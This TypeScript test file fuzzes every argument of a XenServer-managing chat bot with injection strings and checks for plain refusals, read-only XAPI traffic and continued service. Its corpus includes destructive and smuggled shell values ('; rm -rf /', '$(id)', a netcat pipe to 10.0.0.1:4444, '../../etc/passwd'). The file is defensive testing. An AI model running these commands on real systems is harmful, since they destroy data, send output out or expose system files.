/**
 * Issue #13, injection: a generated corpus of hostile strings against every argument of every command
 * the bot registers (new commands are covered as they are added to commands/index.ts). Each input must
 * get a clear refusal — never the "something went wrong" of a bug — nothing may reach XAPI beyond reads
 * (no plugin call, no write), and the bot must still answer afterwards.
 */
import { describe, expect, it } from 'vitest'
import type { z } from 'zod'
import { commands } from '../../commands/index.js'
import type { AnyCommand } from '../../src/core/command.js'
import type { Reply } from '../../src/core/reply.js'
import { startGovernedChat } from '../helpers/governed-chat.js'
import { plain } from '../helpers/test-chat.js'
import { callsSince } from '../helpers/xen.js'

/** Shell metacharacters, quotes, newlines, traversal, overlong and non-UTF-8 input, markup, escapes. */
const HOSTILE: readonly string[] = [
  '; rm -rf /',
  '$(id)',
  '`reboot`',
  'web-1 && halt',
  'a | nc 10.0.0.1 4444',
  "it's",
  '"quoted"',
  'line1\nline2',
  'carriage\rreturn',
  '../../etc/passwd',
  '/var/run/docker.sock',
  'x'.repeat(10_000),
  '\ud800\udfff\ud800',
  'nul\u0000byte',
  '\u001b[31mred\u001b[0m',
  '<!channel>',
  '@everyone',
  'zero\u200bwidth',
  '%XSCONTAINERRSAPUB%',
  '--all',
  '*',
]

/** Read-only XAPI methods any command may call while resolving (and the client's own session upkeep). */
const READ_ONLY = /^(session\.|event\.|[A-Za-z_]+\.get_|[A-Za-z_]+\.get_all|pool\.get_)/

/**
 * Plugin functions that only read the pool's cloud-config (the form of /coreos create prefills from the
 * first). Not get_inspect or get_top: they take a container id into dom0, so a hostile argument must be
 * refused before them.
 */
const PLUGIN_READS = /^xscontainer\.(get_config_drive_default|get_config_drive_configuration)$/

/** A valid value per well-known argument, so the hostile value is the only thing wrong. */
const BASELINE: Readonly<Record<string, string>> = { vm: 'web-1', container: 'nginx-front', pool: 'lab-legacy' }

/** The grammar's double-quoted form of any string. */
const quote = (value: string) => `"${value.replace(/[\\"]/g, (c) => `\\${c}`)}"`

function argNames(command: AnyCommand): string[] {
  return Object.keys((command.args as z.ZodObject).shape)
}

function lineFor(command: AnyCommand, target: string, hostile: string): string {
  const values: Record<string, string> = {}
  for (const name of argNames(command)) if (BASELINE[name] !== undefined) values[name] = BASELINE[name]
  values[target] = hostile
  return `/${command.path} ${Object.entries(values)
    .map(([k, v]) => `--${k}=${quote(v)}`)
    .join(' ')}`
}

const isBug = (reply: Reply) => /went wrong on our side/.test(plain(reply))

describe('injection corpus against every command argument', () => {
  const cases = commands.flatMap((command) => argNames(command).map((arg) => [command.path, arg] as const))

  it('covers every command that takes arguments', () => {
    const withArgs = commands.filter((c) => argNames(c).length > 0).map((c) => c.path)
    expect(new Set(cases.map(([path]) => path))).toEqual(new Set(withArgs))
  })

  it.each(cases)(
    '/%s --%s: every hostile value is refused plainly, and nothing but reads reaches XAPI',
    async (path, arg) => {
      const chat = await startGovernedChat({ rules: {} })
      const command = commands.find((c) => c.path === path) as AnyCommand
      const pools = chat.sim.pools.map((p) => ({
        pool: p.pool,
        before: new Map(p.pool.callCounts),
        plugins: new Map(p.pool.pluginCalls),
      }))
      const failures: string[] = []
      for (const hostile of HOSTILE) {
        const reply = await chat.say('ada', lineFor(command, arg, hostile))
        if (isBug(reply)) failures.push(`${JSON.stringify(hostile.slice(0, 40))}: ${plain(reply)}`)
        if (reply.form) continue // a form command asks again; its submissions are checked by its own tests
        // A refusal: private to the asker, in the error style, and short (an overlong input is not echoed whole).
        const first = reply.blocks[0]
        if (reply.visibility !== 'ephemeral' || first?.kind !== 'text' || first.style !== 'error') {
          failures.push(`${JSON.stringify(hostile.slice(0, 40))} was not refused: ${plain(reply).slice(0, 200)}`)
        }
        if (plain(reply).length > 1_000)
          failures.push(`${JSON.stringify(hostile.slice(0, 40))}: a reply of ${plain(reply).length} chars`)
      }
      expect(failures).toEqual([])
      for (const { pool, before, plugins } of pools) {
        const acted = [...pool.pluginCalls]
          .filter(([fn, count]) => count > (plugins.get(fn) ?? 0) && !PLUGIN_READS.test(fn))
          .map(([fn]) => fn)
        const writes = Object.keys(callsSince(pool, before)).filter(
          (m) => !READ_ONLY.test(m) && !(m === 'host.call_plugin' && acted.length === 0),
        )
        expect([...writes, ...acted], `${path} --${arg} reached XAPI with: ${writes.join(', ')}`).toEqual([])
      }
      // Still up, still right.
      expect(plain(await chat.say('ada', '/docker ps web-1'))).toContain('nginx-front')
    },
  )
})
